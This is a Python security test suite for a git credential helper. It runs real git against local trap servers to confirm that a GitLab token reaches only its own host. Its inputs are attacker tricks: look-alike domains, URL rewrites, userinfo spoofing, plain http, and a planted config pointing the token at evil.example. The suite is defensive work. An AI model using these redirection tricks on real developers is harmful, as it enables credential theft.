"""Hostile container, finding 5: the git credential helper gives a token to a look-alike host.

The developer's git (uid 4242) uses `remo-brokerctl git-credential` from its global git config. The
attacker chooses what git connects to: the repository's remote URL and its .git/config (url.insteadOf,
credential.useHttpPath), and it runs the servers those URLs reach, with certificates valid for its own
names (here: trusted through http.sslCAInfo, as a public CA would make them). A real git ls-remote runs
against local trap servers (on a random 127/8 address, ports 443, 8443 and 80, resolved through
http.curloptResolve) that record every Authorization header. The token may reach the real host only.
"""

import base64
import os
import pathlib
import random
import shutil
import tempfile
import unittest

import git_server
import harness
import hostile

HOST_TOKEN = "glpat-" + harness.CANARY  # GIT_TOKEN_GITLAB_MYCORP_COM, by the helper's convention
ENTRY_TOKEN = "entry-" + harness.CANARY  # GITLAB_TOKEN, named by an entry in the helper's config
NAMES = ["gitlab.mycorp.com", "gitlab-mycorp.com", "evil.example"]


class GitHelperHostileTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0 or not shutil.which("setpriv"):
            raise unittest.SkipTest("the hostile-container suite runs as root with setpriv")
        cls.broker = hostile.HostileBroker().start()
        assert cls.broker.push({"GIT_TOKEN_GITLAB_MYCORP_COM": HOST_TOKEN, "GITLAB_TOKEN": ENTRY_TOKEN})["ok"]
        assert cls.broker.register_attacker_project("webapp", ["GIT_TOKEN_GITLAB_MYCORP_COM", "GITLAB_TOKEN"])["ok"]
        cls.victim = pathlib.Path(tempfile.mkdtemp(prefix="remo-git-victim-"))  # root's: the developer's setup
        os.chmod(cls.victim, 0o755)
        cls.address = f"127.{random.randint(10, 250)}.{random.randint(0, 255)}.{random.randint(1, 254)}"
        certificate = git_server.make_certificate(cls.victim / "tls", dns_names=NAMES)
        cls.ca_file = certificate[0]
        cls.servers = [git_server.serve(git_server.TrapHandler, (cls.address, port), certificate)
                       for port in (443, 8443)]
        cls.servers.append(git_server.serve(git_server.TrapHandler, (cls.address, 80)))
        cls.helper_config = cls.victim / "git-credential.toml"

    @classmethod
    def tearDownClass(cls):
        for server in cls.servers:
            server.shutdown()
            server.server_close()
        cls.broker.cleanup()
        shutil.rmtree(cls.victim, ignore_errors=True)

    def setUp(self):
        for server in self.servers:
            server.received.clear()
        self.home = pathlib.Path(tempfile.mkdtemp(prefix="remo-git-home-"))
        os.chmod(self.home, 0o755)
        os.chown(self.home, hostile.ATTACKER_UID, hostile.ATTACKER_GID)
        self.addCleanup(shutil.rmtree, self.home, True)
        self.repos = 0
        self.write_helper_config("")

    def write_helper_config(self, text):
        self.helper_config.write_text(text)
        os.chmod(self.helper_config, 0o644)

    def write_global_git_config(self, helper_args):
        """The developer's global git config (root-owned here: the attacker does not choose it)."""
        resolve = "".join(f"\tcurloptResolve = {name}:{port}:{self.address}\n"
                          for name in NAMES for port in (443, 8443, 80))
        path = self.victim / "gitconfig"
        path.write_text(f"[credential]\n\thelper =\n\thelper = {self.broker.brokerctl} git-credential {helper_args}\n"
                        f"[http]\n\tsslCAInfo = {self.ca_file}\n{resolve}")
        os.chmod(path, 0o644)
        return path

    def git_as_developer(self, remote_url, repo_config=(), helper_args=None):
        """The attacker's repository (its remote URL and .git/config), then the developer's git ls-remote."""
        if helper_args is None:
            helper_args = f"--config {self.helper_config}"
        env = {"HOME": str(self.home), "GIT_CONFIG_GLOBAL": str(self.write_global_git_config(helper_args)),
               "GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0", "GIT_ASKPASS": "/bin/false",
               "REMO_BROKER_SOCKET": str(self.broker.project_socket("webapp"))}
        self.repos += 1
        repo = str(self.broker.project_dir("webapp") / f"repo-{self._testMethodName}-{self.repos}")
        setup = [["git", "init", "-q", repo], ["git", "-C", repo, "remote", "add", "origin", remote_url]]
        setup += [["git", "-C", repo, "config", key, value] for key, value in repo_config]
        for argv in setup:
            done = hostile.run_as_attacker(argv, env=env)
            self.assertEqual(done.returncode, 0, done.stderr)
        result = hostile.run_as_attacker(["git", "-C", repo, "ls-remote", "origin"], env=env, timeout=60)
        self.assertNotIn(harness.CANARY, result.stdout + result.stderr)
        return result

    def credentials_received(self):
        """Every (Host header, user:password) the trap servers were sent."""
        return [(host, base64.b64decode(auth.split(" ", 1)[1]).decode(errors="replace"))
                for server in self.servers for host, auth in server.received if auth.startswith("Basic ")]

    def assert_no_token_sent(self, result):
        leaked = [(host, cred.split(":", 1)[0]) for host, cred in self.credentials_received()
                  if harness.CANARY in cred]
        self.assertEqual(leaked, [], f"a token was sent to {leaked}; git said: {result.stderr[-500:]}")

    def test_the_real_host_gets_its_token(self):
        """The control: the setup does deliver the token where it belongs, so the other tests are not vacuous."""
        self.git_as_developer("https://gitlab.mycorp.com/group/repo.git")
        self.assertIn(("gitlab.mycorp.com", "x-access-token:" + HOST_TOKEN), self.credentials_received())

    def test_a_lookalike_host_gets_no_token(self):
        result = self.git_as_developer("https://gitlab-mycorp.com/group/repo.git")
        self.assert_no_token_sent(result)
        self.assertIn("no GIT_TOKEN_ name", result.stderr)

    def test_a_url_rewrite_to_a_lookalike_host_gets_no_token(self):
        result = self.git_as_developer("https://gitlab.mycorp.com/group/repo.git",
                                       [("url.https://gitlab-mycorp.com/.insteadOf", "https://gitlab.mycorp.com/")])
        self.assert_no_token_sent(result)

    def test_userinfo_naming_the_real_host_gets_no_token(self):
        result = self.git_as_developer("https://gitlab.mycorp.com@gitlab-mycorp.com/group/repo.git")
        self.assert_no_token_sent(result)

    def test_plain_http_to_the_real_host_gets_no_token(self):
        result = self.git_as_developer("http://gitlab.mycorp.com/group/repo.git")
        self.assert_no_token_sent(result)
        self.assertIn("plain http", result.stderr)

    def test_another_port_of_a_configured_host_gets_no_token(self):
        self.write_helper_config('[hosts."gitlab.mycorp.com"]\nsecret = "GITLAB_TOKEN"\n')
        result = self.git_as_developer("https://gitlab.mycorp.com:8443/group/repo.git")
        self.assert_no_token_sent(result)
        self.git_as_developer("https://gitlab.mycorp.com/group/repo.git")  # the configured origin still works
        self.assertIn(("gitlab.mycorp.com", "x-access-token:" + ENTRY_TOKEN), self.credentials_received())

    def test_the_path_never_selects_a_token(self):
        result = self.git_as_developer("https://evil.example/gitlab.mycorp.com/repo.git",
                                       [("credential.useHttpPath", "true")])
        self.assert_no_token_sent(result)

    def test_a_helper_config_the_attacker_writes_cannot_send_a_host_token_elsewhere(self):
        """The developer's uid writes its own ~/.config: whatever it maps, GIT_TOKEN_GITLAB_MYCORP_COM
        belongs to gitlab.mycorp.com by its name and goes nowhere else."""
        hostile.attack("""
            os.makedirs(params["dir"])
            write(params["dir"] + "/git-credential.toml",
                  '[hosts."gitlab-mycorp.com"]\\nsecret = "GIT_TOKEN_GITLAB_MYCORP_COM"\\n'
                  '[hosts."evil.example"]\\nsecret = "GIT_TOKEN_GITLAB_MYCORP_COM"\\nallow_http = true\\n')
            result = True
        """, dir=str(self.home / ".config" / "remo-broker"))
        for url in ["https://gitlab-mycorp.com/group/repo.git", "http://evil.example/repo.git"]:
            with self.subTest(url=url):
                result = self.git_as_developer(url, helper_args="")
                self.assert_no_token_sent(result)
                self.assertIn("belongs by its name to another host", result.stderr)


if __name__ == "__main__":
    unittest.main()
